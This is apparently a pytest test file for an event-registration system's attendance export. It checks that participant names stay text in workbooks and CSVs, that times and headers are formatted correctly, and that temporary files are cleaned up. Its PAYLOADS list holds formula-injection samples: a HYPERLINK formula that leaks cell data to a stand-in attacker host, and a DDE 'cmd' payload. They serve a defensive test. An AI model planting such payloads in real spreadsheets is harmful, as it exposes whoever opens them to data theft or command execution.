"""Exports keep data as data: no formula from a typed name, in the workbook or the CSV,
real times, a frozen header; temporary files beside the target, none left behind."""

from __future__ import annotations

import csv
import dataclasses
import os
import re
import tempfile
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from registration.services.checkin import check_in
from registration.services.events import list_sessions
from registration.services.export import (
    ExportCancelled,
    export_attendance,
    load_attendance,
    write_export,
)
from registration.services.registry import list_participants

FORMULA_STARTS = "=+-@\t\r"
TEXT = st.text(
    st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff"),
    max_size=20,
)
NAMES = st.tuples(st.sampled_from([*FORMULA_STARTS, "ก", "a", "'", ""]), TEXT).map("".join)
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&B5,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(
            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")
        )


def names_in_xlsx(path: Path) -> list[str]:
    book = load_workbook(path, read_only=True)
    rows = list(book.worksheets[0].iter_rows(min_row=5, values_only=True))
    book.close()
    return [str(row[2]) for row in rows if row and row[1]]


def names_in_csv(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [row[2] for row in list(csv.reader(handle))[1:]]


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(names=st.lists(st.one_of(NAMES, st.sampled_from(PAYLOADS)), min_size=1, max_size=5))
def test_any_typed_name_stays_text_in_the_workbook_and_the_csv(
    db, demo_event, tmp_path_factory, names: list[str]
) -> None:
    data = load_attendance(db, demo_event.id)
    people = [
        dataclasses.replace(person, prefix="", first_name=name, last_name="")
        for person, name in zip(data.participants, names, strict=False)
    ]
    data = dataclasses.replace(data, participants=people)
    folder = tmp_path_factory.mktemp("out")

    xlsx = write_export(data, folder / "a.xlsx")
    text = write_export(data, folder / "a.csv")

    assert "<f>" not in sheet_xml(xlsx) and "<f " not in sheet_xml(xlsx)
    expected = [p.full_name for p in people]
    assert [_unescape(n) for n in names_in_xlsx(xlsx)] == [
        n.replace("\r", "\n") if n else "None" for n in expected
    ]
    assert names_in_csv(text) == [
        "'" + n if n.startswith(tuple(FORMULA_STARTS)) else n for n in expected
    ]


def _unescape(text: str) -> str:
    """openpyxl leaves Excel's _xHHHH_ escapes of control characters as they are."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def test_times_are_real_excel_times_under_a_frozen_header(db, demo_event, tmp_path) -> None:
    person = list_participants(db, demo_event.id)[0]
    session = list_sessions(db, demo_event.id)[0]
    done = check_in(db, person.badge_code, session.id, desk="Desk 1")

    out = export_attendance(db, demo_event.id, tmp_path / "attendance.xlsx")

    book = load_workbook(out, read_only=False)
    matrix, raw = book.worksheets
    assert matrix.freeze_panes == "D5" and raw.freeze_panes == "A2"
    assert matrix.column_dimensions["C"].width >= 25  # the names fit
    row = next(r for r in matrix.iter_rows(min_row=5) if r[1].value == person.badge_code)
    moment = done.check_in.checked_in_at
    assert row[6].value.strftime("%H:%M") == f"{moment:%H:%M}" and row[6].number_format == "hh:mm"
    assert raw["A2"].value.replace(microsecond=0) == moment.replace(microsecond=0)
    assert matrix["A4"].value == "ลำดับ" and matrix["A4"].font.bold


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_temporary_files_stay_beside_the_target_owner_only(
    db, demo_event, tmp_path, monkeypatch, suffix
) -> None:
    system_temp = tmp_path / "system-temp"
    system_temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(system_temp))
    folder = tmp_path / "exports"
    folder.mkdir()
    seen: list[tuple[str, int]] = []

    def look(*_: int) -> None:
        seen.extend((p.name, p.stat().st_mode & 0o777) for p in folder.iterdir())

    out = export_attendance(db, demo_event.id, folder / f"a{suffix}", progress=look)

    assert list(system_temp.iterdir()) == []
    temporary = [(name, mode) for name, mode in seen if name.startswith(".export-")]
    assert temporary and all(mode in (0o600, 0o700) for _, mode in temporary)
    assert [p.name for p in folder.iterdir()] == [out.name]
    umask = os.umask(0)
    os.umask(umask)
    assert out.stat().st_mode & 0o777 == 0o666 & ~umask  # the export is for sharing


def test_leftovers_of_a_killed_export_go_at_the_next_one(db, demo_event, tmp_path) -> None:
    folder = tmp_path / "exports"
    folder.mkdir()
    dead = 2**22 + 12345  # above any pid this machine hands out
    (folder / f".export-{dead}-k2j4.xlsx").write_bytes(b"names of participants")
    (folder / f".export-{dead}-x9q1").mkdir()
    (folder / f".export-{dead}-x9q1" / "tmpabc.xml").write_text("<row/>")
    running = folder / f".export-{os.getpid()}-busy.xlsx"  # an export running now
    running.write_bytes(b"")
    (folder / "mine.xlsx").write_bytes(b"keep")

    export_attendance(db, demo_event.id, folder / "attendance.xlsx")

    assert sorted(p.name for p in folder.iterdir()) == sorted(
        ["attendance.xlsx", "mine.xlsx", running.name]
    )


def test_a_cancelled_workbook_leaves_no_scratch_behind(db, demo_event, tmp_path) -> None:
    folder = tmp_path / "exports"
    folder.mkdir()
    with pytest.raises(ExportCancelled):
        export_attendance(db, demo_event.id, folder / "a.xlsx", cancelled=lambda: True)

    assert list(folder.iterdir()) == []
